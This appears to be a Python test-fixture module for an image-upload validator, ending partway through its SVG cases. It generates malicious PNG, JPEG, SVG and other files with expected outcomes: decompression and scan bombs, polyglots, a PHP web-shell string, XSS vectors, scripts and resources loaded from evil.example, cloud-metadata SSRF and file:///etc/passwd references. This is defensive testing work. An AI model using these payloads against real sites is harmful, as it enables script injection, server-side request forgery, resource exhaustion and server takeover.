"""Files made to hurt whoever reads or shows them, and what has to become of each (files 1 and 3).

`named()` gives one file of each kind, `mutations()` seeded damage on top of them and of sound files; `dangers()` looks
at a cleaned SVG with other eyes than the product's: an HTML tokenizer and plain text searches.
"""

import base64
import gzip
import html
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from html.parser import HTMLParser
from xml.dom import minidom

from PIL import Image

ACTIVE, BROKEN, OTHER, SOUND = "upload_active", "upload_unreadable", "upload_wrong_type", "accepted"
HEIC = "upload_heic"
LIMIT = 5_242_880


@dataclass(frozen=True)
class Hostile:
    """A file and its fate: one of the refusals' codes, or SOUND when it is taken as (or made) a plain picture."""

    name: str
    make: Callable[[], bytes]
    fate: str


# --- PNG


def chunk(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def header(width: int = 2, height: int = 2, depth: int = 8, colour: int = 2, *rest: int) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, *(rest or (0, 0, 0))))


SIGNATURE = b"\x89PNG\r\n\x1a\n"
PIXELS = zlib.compress(b"\0" + b"\x80\x20\x10" * 2 + b"\0" + b"\x10\x20\x80" * 2)
IDAT, IEND = chunk(b"IDAT", PIXELS), chunk(b"IEND")
PNG = SIGNATURE + header() + IDAT + IEND


def png(*parts: bytes) -> bytes:
    return SIGNATURE + b"".join(parts)


def bomb(megabytes: int) -> bytes:
    """A zlib stream of so many megabytes of nothing, made without unpacking them here either."""
    packer = zlib.compressobj(9)
    start = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    megabyte = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + megabyte * megabytes + packer.flush()


def blank_png(width: int, height: int, colour: int = 6, depth: int = 8) -> bytes:
    """All zero, of any size, row by row."""
    row = bytes(1 + width * depth // 8 * {0: 1, 2: 3, 6: 4}[colour])
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return png(header(width, height, depth, colour), chunk(b"IDAT", packed), IEND)


def animated(
    frames: int, width: int = 8, height: int = 8, claimed: int | None = None, shift: int = 0, apart: bool = False
) -> bytes:
    """An APNG whose frames are all the same; `shift` moves them out of the canvas, `apart` adds a still picture."""
    packed = zlib.compress((b"\0" + bytes(3 * width)) * height, 9)
    parts, sequence = [header(width, height), chunk(b"acTL", struct.pack(">II", claimed or frames, 0))], 0
    if apart:
        parts.append(chunk(b"IDAT", packed))
    for number in range(frames):
        parts.append(chunk(b"fcTL", struct.pack(">IIIIIHHBB", sequence, width, height, shift, 0, 1, 25, 2, 1)))
        sequence += 1
        if number == 0 and not apart:
            parts.append(chunk(b"IDAT", packed))
        else:
            parts.append(chunk(b"fdAT", struct.pack(">I", sequence) + packed))
            sequence += 1
    return png(*parts, IEND)


def gray(size: int) -> bytes:
    return chunk(b"IDAT", zlib.compress((b"\0" + bytes(size)) * size))


def spoilt(moving: bytes) -> bytes:
    """An APNG whose last frame is no picture; its checksum is right."""
    at = moving.rindex(b"fdAT")
    return moving[: at - 4] + chunk(b"fdAT", moving[at + 4 : at + 8] + b"<?php phpinfo();") + IEND


PNG_KINDS: list[tuple[str, Callable[[], bytes], str]] = [
    ("signature alone", lambda: SIGNATURE, BROKEN),
    ("half a signature", lambda: b"\x89PNG\r\n", BROKEN),
    ("line ends changed in transfer", lambda: PNG.replace(b"\r\n", b"\n"), BROKEN),
    ("cut in the header", lambda: PNG[:20], BROKEN),
    ("cut in the pixels", lambda: PNG[:50], BROKEN),
    ("cut before the last checksum", lambda: PNG[:-4], BROKEN),
    ("cut by one byte", lambda: PNG[:-1], BROKEN),
    ("wrong checksum of the header", lambda: PNG[:29] + b"\0\0\0\0" + PNG[33:], BROKEN),
    ("wrong checksum of the pixels", lambda: PNG[:-16] + b"\0\0\0\0" + PNG[-12:], BROKEN),
    ("page behind the end", lambda: PNG + b"<html><script>alert(1)</script>", BROKEN),
    ("archive behind the end", lambda: PNG + archive(), BROKEN),
    ("zeros behind the end", lambda: PNG + bytes(64), BROKEN),
    ("one line end behind the end", lambda: PNG + b"\n", BROKEN),
    ("chunk behind the end", lambda: PNG + chunk(b"tEXt", b"a\0b"), BROKEN),
    ("two ends", lambda: PNG + IEND, BROKEN),
    ("two pictures", lambda: PNG + PNG, BROKEN),
    ("end with content", lambda: png(header(), IDAT, chunk(b"IEND", b"<script>")), BROKEN),
    ("no end", lambda: png(header(), IDAT), BROKEN),
    ("no pixels", lambda: png(header(), IEND), BROKEN),
    ("empty pixels", lambda: png(header(), chunk(b"IDAT"), IEND), BROKEN),
    ("pixels that are none", lambda: png(header(), chunk(b"IDAT", b"<?php phpinfo();"), IEND), BROKEN),
    ("too few pixels", lambda: png(header(200, 200), IDAT, IEND), BROKEN),
    ("header twice", lambda: png(header(), header(), IDAT, IEND), BROKEN),
    ("header late", lambda: png(chunk(b"tEXt", b"a\0b"), header(), IDAT, IEND), BROKEN),
    ("short header", lambda: png(chunk(b"IHDR", bytes(8)), IDAT, IEND), BROKEN),
    ("long header", lambda: png(chunk(b"IHDR", header()[8:21] + b"\0"), IDAT, IEND), BROKEN),
    ("chunk longer than the file", lambda: png(header(), b"\x7f\xff\xff\xffIDAT", IEND), BROKEN),
    ("chunk of negative length", lambda: png(header(), b"\xff\xff\xff\xffIDAT", IEND), BROKEN),
    ("no width", lambda: png(header(0, 2), IDAT, IEND), BROKEN),
    ("no height", lambda: png(header(2, 0), IDAT, IEND), BROKEN),
    ("50k x 50k in 40 kB", lambda: png(header(50_000, 50_000, 1, 0), chunk(b"IDAT", bomb(40)), IEND), BROKEN),
    ("2 Gpixel wide", lambda: png(header(0x7FFFFFFF, 1), IDAT, IEND), BROKEN),
    ("4 Gpixel square", lambda: png(header(0xFFFFFFFF, 0xFFFFFFFF), IDAT, IEND), BROKEN),
    ("16 Mpixel in one row", lambda: png(header(16_000_000, 1), IDAT, IEND), BROKEN),
    ("just over 16 Mpixel", lambda: blank_png(4001, 4000, 0), BROKEN),
    ("16 Mpixel", lambda: blank_png(4000, 4000), SOUND),
    ("16 Mpixel of 16 bits", lambda: blank_png(4000, 4000, 6, 16), SOUND),
    ("unknown depth", lambda: png(header(2, 2, 3), IDAT, IEND), BROKEN),
    ("unknown colours", lambda: png(header(2, 2, 8, 5), IDAT, IEND), BROKEN),
    ("unknown compression", lambda: png(header(2, 2, 8, 2, 1, 0, 0), IDAT, IEND), BROKEN),
    ("unknown filter", lambda: png(header(2, 2, 8, 2, 0, 1, 0), IDAT, IEND), BROKEN),
    ("unknown interlace", lambda: png(header(1, 1, 8, 0, 0, 0, 9), gray(1), IEND), BROKEN),
    ("pixels in two places", lambda: png(header(), IDAT, chunk(b"tEXt", b"a\0b"), IDAT, IEND), BROKEN),
    ("palette missing", lambda: png(header(2, 2, 8, 3), gray(2), IEND), BROKEN),
    ("palette late", lambda: png(header(2, 2, 8, 3), gray(2), chunk(b"PLTE", bytes(3)), IEND), BROKEN),
    ("palette uneven", lambda: png(header(), chunk(b"PLTE", bytes(4)), IDAT, IEND), BROKEN),
    ("palette twice", lambda: png(header(), chunk(b"PLTE", bytes(3)) * 2, IDAT, IEND), BROKEN),
    ("palette empty", lambda: png(header(), chunk(b"PLTE"), IDAT, IEND), BROKEN),
    ("palette too long", lambda: png(header(), chunk(b"PLTE", bytes(900)), IDAT, IEND), BROKEN),
    ("unknown critical chunk", lambda: png(header(), chunk(b"EVIL", b"x"), IDAT, IEND), BROKEN),
    ("chunk of Apple's CgBI", lambda: png(chunk(b"CgBI", bytes(4)), header(), IDAT, IEND), BROKEN),
    ("reserved bit set", lambda: png(header(), chunk(b"teXt", b"a\0b"), IDAT, IEND)[:-12] + IEND, SOUND),
    ("reserved bit unset", lambda: png(header(), chunk(b"text", b"a\0b"), IDAT, IEND), BROKEN),
    ("chunk type of no letters", lambda: png(header(), chunk(b"t<x>", b"a"), IDAT, IEND), BROKEN),
    ("436k chunks", lambda: png(header(), chunk(b"tEXt") * 436_000, IDAT, IEND), BROKEN),
    ("zTXt bomb", lambda: png(header(), chunk(b"zTXt", b"a\0\0" + bomb(500)), IDAT, IEND), BROKEN),
    ("zTXt bomb behind", lambda: png(header(), IDAT, chunk(b"zTXt", b"a\0\0" + bomb(500)), IEND), BROKEN),
    ("iTXt bomb", lambda: png(header(), chunk(b"iTXt", b"a\0\1\0\0\0" + bomb(500)), IDAT, IEND), BROKEN),
    ("iCCP bomb", lambda: png(header(), chunk(b"iCCP", b"a\0\0" + bomb(500)), IDAT, IEND), BROKEN),
    ("60 texts of 1 MB", lambda: png(header(), *many_texts(60), IDAT, IEND), BROKEN),
    ("pixels followed by 500 MB", lambda: png(header(), chunk(b"IDAT", bomb(500)), IEND), SOUND),
    ("script in a text", lambda: png(header(), chunk(b"tEXt", b"a\0<script>alert(1)</script>"), IDAT, IEND), SOUND),
    ("page in an unknown chunk", lambda: png(header(), chunk(b"ruBy", b"<html>" * 900), IDAT, IEND), SOUND),
    ("text that poses as the frame", lambda: png(header(), chunk(b"tEXt", b"bbox\0x"), IDAT, IEND), BROKEN),
    ("animation of 4 G frames", lambda: animated(2, claimed=0xFFFFFFFF), BROKEN),
    ("animation that lacks frames", lambda: animated(2, claimed=3), BROKEN),
    ("animation outside its canvas", lambda: animated(2, shift=4), BROKEN),
    ("animation of 1,000 Mpixel", lambda: animated(250, 2000, 2000), BROKEN),
    ("animation of 60 Mpixel", lambda: animated(15, 2000, 2000), SOUND),
    ("animation of 4 large frames", lambda: animated(4, 4000, 4000), BROKEN),
    ("animation declared twice", lambda: animated(2).replace(IEND, chunk(b"acTL", bytes(8)) + IEND), BROKEN),
    ("animation with a broken frame", lambda: spoilt(animated(3)), BROKEN),
    ("animation apart with a broken frame", lambda: spoilt(animated(1, apart=True)), BROKEN),
    ("animation of no frames", lambda: png(header(), chunk(b"acTL", bytes(8)), IDAT, IEND), BROKEN),
    ("jpeg inside", lambda: png(jpeg()), BROKEN),
]


def many_texts(count: int) -> list[bytes]:
    packed = zlib.compress(b"x" * 1_000_000)
    return [chunk(b"zTXt", b"k%d\0\0" % number + packed) for number in range(count)]


# --- JPEG


def jpeg(size: tuple[int, int] = (16, 16), mode: str = "RGB", **options: bool | int) -> bytes:
    file = io.BytesIO()
    Image.new(mode, size).save(file, "JPEG", **options)
    return file.getvalue()


FRAME = jpeg()[jpeg().index(b"\xff\xc0") :][:19]


def segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def with_segment(marker: int, body: bytes) -> bytes:
    return jpeg()[:2] + segment(marker, body) + jpeg()[2:]


def with_frame(change: Callable[[bytearray], None]) -> bytes:
    """A JPEG whose frame header (marker, length, precision, height, width, components) is changed."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    frame = data[at : at + 19]
    change(frame)
    data[at : at + 19] = frame
    return bytes(data)


def put(offset: int, *values: int) -> Callable[[bytearray], None]:
    def change(frame: bytearray) -> None:
        frame[offset : offset + len(values)] = bytes(values)

    return change


def scan_bomb(scans: int, size: tuple[int, int] = (4000, 4000)) -> bytes:
    """A progressive JPEG that repeats one of its scans: each one costs a pass over all pixels."""
    data = jpeg(size, "L", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * scans + data[-2:]


def between_scans(words: bytes) -> bytes:
    data = jpeg((40, 40), progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + words + data[last:]


JPEG_KINDS: list[tuple[str, Callable[[], bytes], str]] = [
    ("start alone", lambda: b"\xff\xd8\xff", BROKEN),
    ("start and end", lambda: b"\xff\xd8\xff\xd9", BROKEN),
    ("cut in the tables", lambda: jpeg()[:100], BROKEN),
    ("cut in the frame", lambda: jpeg()[: jpeg().index(b"\xff\xc0") + 6], BROKEN),
    ("cut in the pixels", lambda: jpeg((256, 256))[:-40], BROKEN),
    ("cut before the end", lambda: jpeg()[:-2], BROKEN),
    ("page behind the end", lambda: jpeg() + b"<html><script>alert(1)</script>", BROKEN),
    ("archive behind the end", lambda: jpeg() + archive(), BROKEN),
    ("zeros behind the end", lambda: jpeg() + bytes(64), BROKEN),
    ("second picture behind the end", lambda: jpeg() + jpeg(), BROKEN),
    ("no frame", lambda: jpeg().replace(b"\xff\xc0", b"\xff\xe9"), BROKEN),
    ("two frames", lambda: jpeg()[:2] + FRAME + jpeg()[2:], BROKEN),
    ("no width", lambda: with_frame(put(7, 0, 0)), BROKEN),
    ("no height", lambda: with_frame(put(5, 0, 0)), BROKEN),
    ("65k x 65k", lambda: with_frame(put(5, 255, 220, 255, 220)), BROKEN),
    ("wider than told", lambda: with_frame(put(7, 64, 0)), SOUND),
    ("frame behind the scan", lambda: jpeg()[:-2] + FRAME + jpeg()[-2:], BROKEN),
    ("12 bits", lambda: with_frame(put(4, 12)), BROKEN),
    ("lossless", lambda: with_frame(put(1, 0xC3)), BROKEN),
    ("arithmetic", lambda: with_frame(put(1, 0xC9)), BROKEN),
    ("hierarchical", lambda: with_frame(put(1, 0xC5)), BROKEN),
    ("two components", lambda: with_frame(put(9, 2)), BROKEN),
    ("frame of wrong length", lambda: with_frame(put(2, 0, 14)), BROKEN),
    ("segment of length 0", lambda: jpeg()[:2] + b"\xff\xe1\0\0" + jpeg()[2:], BROKEN),
    ("segment of length 1", lambda: jpeg()[:2] + b"\xff\xe1\0\1" + jpeg()[2:], BROKEN),
    ("segment past the end", lambda: jpeg()[:2] + b"\xff\xe1\xff\xff" + jpeg()[2:], BROKEN),
    ("words between segments", lambda: jpeg()[:2] + b"<script>" + jpeg()[2:], BROKEN),
    ("words between scans", lambda: between_scans(b"\xe1\0\3x"), BROKEN),
    ("note between scans", lambda: between_scans(segment(0xFE, b"x")), SOUND),
    ("unknown marker", lambda: with_segment(0xF0, b"x"), BROKEN),
    ("line count behind the scan", lambda: jpeg()[:-2] + segment(0xDC, b"\0\x10") + jpeg()[-2:], BROKEN),
    ("end in the tables", lambda: jpeg()[:20] + b"\xff\xd9" + jpeg()[20:], BROKEN),
    ("scan before the frame", lambda: with_segment(0xDA, b"\1\1\0\0\x3f\0"), BROKEN),
    ("1,000 scans", lambda: scan_bomb(1_000), BROKEN),
    ("as many scans as may be", lambda: scan_bomb(52), SOUND),
    ("1.3 M comments", lambda: jpeg()[:2] + segment(0xFE, b"") * 1_300_000 + jpeg()[2:], BROKEN),
    ("3 MB of padding", lambda: jpeg()[:2] + b"\xff" * 3_000_000 + jpeg()[2:], SOUND),
    ("no quantisation", lambda: jpeg().replace(b"\xff\xdb", b"\xff\xe9"), BROKEN),
    ("page in a comment", lambda: with_segment(0xFE, b"*/</style><script>alert(1)</script>"), SOUND),
    ("script in the names", lambda: with_segment(0xE1, b"Exif\0\0<script>alert(1)</script>"), SOUND),
    ("notes that point nowhere", lambda: with_segment(0xE1, b"Exif\0\0II*\0\xff\xff\xff\x7f" + bytes(40)), BROKEN),
    ("javascript as picture", lambda: b"\xff\xd8\xff\xe0\x2f\x2a" + bytes(64) + b"*/=alert(1)/*" + jpeg()[2:], BROKEN),
    ("16 Mpixel, progressive", lambda: jpeg((4000, 4000), progressive=True), SOUND),
    ("16 Mpixel, four inks", lambda: jpeg((4000, 4000), "CMYK", progressive=True), SOUND),
    ("noise", lambda: b"\xff\xd8\xff\xe0" + random.Random(7).randbytes(5_000), BROKEN),
]


# --- neither


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as zipped:
        zipped.writestr("index.html", "<script>alert(1)</script>")
    return file.getvalue()


def picture(form: str) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (4, 4)).save(file, form)
    return file.getvalue()


OTHER_KINDS: dict[str, bytes] = {
    "nothing": b"",
    "one byte": b"\x89",
    "blanks": b" \n\t ",
    "zeros": bytes(4096),
    "noise": random.Random(8).randbytes(4096),
    "words": b"this is my logo",
    "page": b"<!DOCTYPE html><html><body onload=alert(1)></html>",
    "page without a type": b"<html><svg onload=alert(1)></html>",
    "page as XML": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "script": b"alert(document.domain)",
    "script element": b"<script>alert(1)</script>",
    "php": b"<?php system($_GET['c']); ?>",
    "feed": b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>',
    "formula": b'<math xmlns="http://www.w3.org/1998/Math/MathML"/>',
    "XSLT": b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    "json": b'{"logo": true}',
    "PDF": b"%PDF-1.7\n%%EOF",
    "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "GIF": b"GIF89a/*\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;*/=alert(1)",
    "WebP": b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0",
    "BMP": b"BM" + bytes(60),
    "TIFF": b"II*\0\x08\0\0\0\0\0\0\0\0\0",
    "icon": b"\0\0\1\0\1\0\x10\x10\0\0\1\0 \0",
    "AVIF": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf",
    "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n",
    "Photoshop": b"8BPS\0\1" + bytes(40),
    "Flash": b"FWS\x09" + bytes(40),
    "program": b"MZ" + bytes(100),
    "elf": b"\x7fELF" + bytes(100),
    "class file": b"\xca\xfe\xba\xbe" + bytes(40),
    "font": b"wOFF" + bytes(40),
    "MNG": b"\x8aMNG\r\n\x1a\n" + bytes(40),
    "archive": archive(),
    "mail": b"Content-Type: text/html\n\n<script>alert(1)</script>",
    "svgz": gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg"/>', mtime=0),
    "svgz bomb": gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg">' + b" " * 50_000_000, mtime=0),
}
HEIC_KINDS: dict[str, bytes] = {
    "of a phone": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
    "of several": b"\0\0\0\x18ftypmif1\0\0\0\0mif1heix",
    "with a script": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic<svg><script>alert(1)</script></svg>",
}


# --- SVG

ROOT = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
RECT = '<rect width="9" height="9"/>'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
DATA_PNG = "data:image/png;base64," + base64.b64encode(PNG).decode()


def svg(body: str, before: str = "") -> bytes:
    return f"{before}{ROOT}{body}{RECT}</svg>".encode()


def style(css: str) -> str:
    return f"<style>{css}</style>"


# What stands inside the svg element, and its fate.
SVG_BODIES: dict[str, tuple[str, str]] = {
    "script": ("<script>alert(1)</script>", ACTIVE),
    "script in CDATA": ("<script><![CDATA[alert(1)]]></script>", ACTIVE),
    "script from elsewhere": ('<script xlink:href="https://evil.example/x.js"/>', ACTIVE),
    "script from elsewhere, new": ('<script href="//evil.example/x.js"/>', ACTIVE),
    "script in defs": ("<defs><g><script>1</script></g></defs>", ACTIVE),
    "script in metadata": ("<metadata><script>1</script></metadata>", ACTIVE),
    "script in a foreign element": ('<x xmlns="urn:x"><s:script xmlns:s="http://www.w3.org/2000/svg"/></x>', ACTIVE),
    "script in capitals": ("<SCRIPT>alert(1)</SCRIPT>", ACTIVE),
    "script with a prefix": ('<q:script xmlns:q="http://www.w3.org/2000/svg">alert(1)</q:script>', ACTIVE),
    "script by entities": ("<text>&#60;script&#62;alert(1)&#60;/script&#62;</text>", SOUND),
    "script in a comment": ("<!--><script>alert(1)</script>-->", SOUND),
    "script in a whole comment": ("<!-- <script>alert(1)</script> -->", SOUND),
    "script in a title": ("<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>", SOUND),
    "script in CDATA text": ("<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>", SOUND),
    "script in a style": (style("<![CDATA[</style><script>alert(1)</script>]]>"), SOUND),
    "script in an id": ('<g id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>', SOUND),
    "script of no namespace": ('<x xmlns=""><script>alert(1)</script></x>', SOUND),
    "handler": ('<handler type="text/ecmascript">1</handler>', ACTIVE),
    "listener": ('<listener event="click" handler="#x"/>', ACTIVE),
    "ev:listener": ('<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="click"/>', ACTIVE),
    "onload": ('<g onload="alert(1)"/>', ACTIVE),
    "onclick": ('<rect onclick="alert(1)"/>', ACTIVE),
    "onmouseover on a path": ('<path d="M0 0" onmouseover="alert(1)"/>', ACTIVE),
    "onerror": ('<image xlink:href="#x" onerror="alert(1)"/>', ACTIVE),
    "onfocusin": ('<g tabindex="1" onfocusin="alert(1)"/>', ACTIVE),
    "onbegin": ('<animate attributeName="x" onbegin="alert(1)" dur="1s"/>', ACTIVE),
    "OnLoad": ('<g OnLoad="alert(1)"/>', ACTIVE),
    "onload in metadata": ('<metadata onload="alert(1)"/>', ACTIVE),
    "unknown on-attribute": ('<g onwhatever="1"/>', ACTIVE),
    "foreignObject": (f"<foreignObject><body {XHTML}>hi</body></foreignObject>", ACTIVE),
    "empty foreignObject": ("<foreignObject/>", ACTIVE),
    "foreignobject": ("<foreignobject/>", ACTIVE),
    "iframe of XHTML": (f'<iframe {XHTML} src="javascript:alert(1)"/>', ACTIVE),
    "img of XHTML": (f'<img {XHTML} src="x" onerror="alert(1)"/>', ACTIVE),
    "meta of XHTML": (f'<meta {XHTML} http-equiv="refresh" content="0;url=//evil.example"/>', ACTIVE),
    "link of XHTML": (f'<link {XHTML} rel="stylesheet" href="//evil.example"/>', ACTIVE),
    "base of XHTML": (f'<base {XHTML} href="//evil.example"/>', ACTIVE),
    "form of XHTML": (f'<form {XHTML} action="//evil.example"><input name="p"/></form>', ACTIVE),
    "XHTML in metadata": (f"<metadata><script {XHTML}>alert(1)</script></metadata>", ACTIVE),
    "iframe": ('<iframe src="https://evil.example"/>', SOUND),
    "video": ('<video xlink:href="https://evil.example/v.mp4"/>', ACTIVE),
    "audio": ('<audio xlink:href="https://evil.example/a.mp3"/>', ACTIVE),
    "XInclude": ('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>', ACTIVE),
    "XSLT inside": ('<x:template xmlns:x="http://www.w3.org/1999/XSL/Transform" match="/"/>', ACTIVE),
    "XBL": ('<bindings xmlns="http://www.mozilla.org/xbl"/>', ACTIVE),
    "link to javascript": ('<a xlink:href="javascript:alert(1)"><text>x</text></a>', ACTIVE),
    "link to javascript, new": ('<a href="javascript:alert(1)"><text>x</text></a>', ACTIVE),
    "link with a tab": ('<a href="java&#9;script:alert(1)"/>', ACTIVE),
    "link with a line end": ('<a href="java&#10;script&#13;:alert(1)"/>', ACTIVE),
    "link with blanks before": ('<a href=" &#10; javascript:alert(1)"/>', ACTIVE),
    "link in capitals": ('<a href="JaVaScRiPt:alert(1)"/>', ACTIVE),
    "link to vbscript": ('<a href="vbscript:1"/>', ACTIVE),
    "link to a page in data": ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>', ACTIVE),
    "link elsewhere": ('<a href="https://evil.example"><text>log in</text></a>', ACTIVE),
    "link within": ('<a href="#x"><text>up</text></a>', SOUND),
    "address as base": ('<g xml:base="https://evil.example/"><use href="#x"/></g>', SOUND),
    "animated address": ('<a><animate attributeName="href" values="javascript:alert(1)"/></a>', ACTIVE),
    "animated address, plain": ('<a><animate attributeName="href" to="https://evil.example"/></a>', ACTIVE),
    "set address": ('<use><set attributeName="xlink:href" to="#y"/></use>', ACTIVE),
    "set handler": ('<g><set attributeName="onload" to="alert(1)"/></g>', ACTIVE),
    "set of a prefix": ('<g><set attributeName=" xl:HREF " to="#y"/></g>', ACTIVE),
    "animation to javascript": ('<g><animate attributeName="x" to="javascript:alert(1)"/></g>', ACTIVE),
    "animation": ('<g><animate attributeName="opacity" from="0" to="1" dur="1s"/></g>', SOUND),
    "animated transform": ('<animateTransform attributeName="transform" type="rotate" to="9"/>', SOUND),
    "discard": ('<discard begin="0s"/>', SOUND),
    "use elsewhere": ('<use xlink:href="https://evil.example/x.svg#a"/>', ACTIVE),
    "use of another file": ('<use href="other.svg#a"/>', ACTIVE),
    "use without a scheme": ('<use href="//evil.example/x.svg#a"/>', ACTIVE),
    "use of data": ("<use href=\"data:image/svg+xml,&lt;svg id='a'/&gt;#a\"/>", ACTIVE),
    "use of a picture in data": (f'<use href="{DATA_PNG}"/>', ACTIVE),
    "use of a file": ('<use href="file:///etc/passwd"/>', ACTIVE),
    "picture elsewhere": ('<image xlink:href="https://evil.example/pixel.png"/>', ACTIVE),
    "picture of the cloud": ('<image href="http://169.254.169.254/latest/meta-data/"/>', ACTIVE),
    "picture of a file": ('<image href="C:\\logo.png"/>', ACTIVE),
    "picture that is an SVG": ('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>', ACTIVE),
    "picture that is a page": ('<image href="data:text/html;base64,PGI+"/>', ACTIVE),
    "picture not in base64": ('<image href="data:image/png,%89PNG"/>', ACTIVE),
    "picture in capitals": (f'<image href="{DATA_PNG.replace("data:image", "DATA:IMAGE")}"/>', SOUND),
    "picture cut off": (f'<image href="{DATA_PNG[:-20]}"/>', BROKEN),
    "picture of no pixels": (
        f'<image href="data:image/png;base64,{base64.b64encode(png(header(), chunk(b"IDAT"), IEND)).decode()}"/>',
        BROKEN,
    ),
    "picture that is a page inside": ('<image href="data:image/png;base64,PGh0bWw+"/>', BROKEN),
    "picture of bad base64": ('<image href="data:image/png;base64,%%%%"/>', BROKEN),
    "picture with a page behind": (
        f'<image href="data:image/png;base64,{base64.b64encode(PNG + b"<html>").decode()}"/>',
        BROKEN,
    ),
    "filter picture elsewhere": ('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>', ACTIVE),
    "gradient elsewhere": ('<linearGradient xlink:href="https://evil.example/x.svg#g"/>', ACTIVE),
    "text path elsewhere": ('<text><textPath href="https://evil.example/x.svg#p">x</textPath></text>', ACTIVE),
    "font elsewhere": ('<font-face><font-face-uri xlink:href="https://evil.example/f.svg"/></font-face>', ACTIVE),
    "colour profile elsewhere": ('<color-profile xlink:href="https://evil.example/p.icc"/>', ACTIVE),
    "fill elsewhere": ('<rect fill="url(https://evil.example/x.svg#g)"/>', ACTIVE),
    "fill elsewhere, quoted": ("<rect fill=\"url('https://evil.example/x.svg#g')\"/>", ACTIVE),
    "fill elsewhere, escaped": ('<rect fill="\\75 rl(https://evil.example/x.svg#g)"/>', ACTIVE),
    "fill elsewhere, blanks": ('<rect fill="URL(  &#10;  //evil.example/x.svg#g )"/>', ACTIVE),
    "fill never closed": ('<rect fill="url(https://evil.example/x.svg"/>', ACTIVE),
    "mask elsewhere": ('<g mask="url(other.svg#m)"/>', ACTIVE),
    "filter elsewhere": ('<g filter="blur(1px) url(data:image/svg+xml,x#f)"/>', ACTIVE),
    "clip elsewhere": ('<g clip-path="url(\\68ttps://evil.example)"/>', ACTIVE),
    "marker elsewhere": ('<path marker-end="url(https://evil.example/#m)"/>', ACTIVE),
    "cursor elsewhere": ('<g cursor="url(https://evil.example/c.cur)"/>', SOUND),
    "fill of javascript": ('<rect fill="javascript:alert(1)"/>', ACTIVE),
    "style elsewhere": ('<g style="fill:url(https://evil.example)"/>', ACTIVE),
    "style elsewhere, escaped": ('<g style="fill:u\\72l(https://evil.example)"/>', ACTIVE),
    "style of an unknown property": ('<g style="background-image:url(//evil.example)"/>', ACTIVE),
    "style with image-set": ("<g style=\"background:image-set('//evil.example' 1x)\"/>", ACTIVE),
    "style with an expression": ('<g style="width:expression(alert(1))"/>', ACTIVE),
    "style with a behaviour": ('<g style="behavior:url(#default#time2)"/>', ACTIVE),
    "style with a binding": ('<g style="-moz-binding:url(#x)"/>', ACTIVE),
    "style with a comment inside": ('<g style="fill:u/**/rl(https://evil.example)"/>', SOUND),
    "style with braces": ("<g style=\"} @import '//evil.example'; g{\"/>", SOUND),
    "style with a control character": ("<g style=\"font-family:'\\1 \\0'\"/>", SOUND),
    "style with a rule inside": ('<g style="a{fill:url(//evil.example)}"/>', ACTIVE),
    "import": (style("@import url(https://evil.example/x.css);"), ACTIVE),
    "import of a string": (style("@import 'https://evil.example/x.css';"), ACTIVE),
    "import, escaped": (style("@\\69mport 'https://evil.example/x.css';"), ACTIVE),
    "import of data": (style("@import 'data:text/css,*{fill:red}';"), ACTIVE),
    "import in CDATA": (style("<![CDATA[@import 'https://evil.example';]]>"), ACTIVE),
    "import late": (style("g{fill:red} @import 'https://evil.example';"), ACTIVE),
    "sheet elsewhere": (style("g{fill:url(https://evil.example/x.svg#a)}"), ACTIVE),
    "sheet elsewhere, escaped": (style("g{fill:\\55\\52\\4c(https://evil.example)}"), ACTIVE),
    "sheet elsewhere by entities": (style("g{fill:&#117;rl(https://evil.example)}"), ACTIVE),
    "sheet with image-set": (style("svg{background:-webkit-image-set('//evil.example' 1x)}"), ACTIVE),
    "sheet with cross-fade": (style("svg{background:cross-fade(url(//evil.example),red)}"), ACTIVE),
    "sheet with src": (style("svg{background:src('//evil.example')}"), ACTIVE),
    "sheet with a font elsewhere": (style("@font-face{font-family:a;src:url(https://evil.example/f.woff)}"), ACTIVE),
    "sheet with media elsewhere": (style("@media screen{g{fill:url(//evil.example)}}"), ACTIVE),
    "sheet with media of data": (style("@media all{g{fill:url(data:image/svg+xml,x)}}"), ACTIVE),
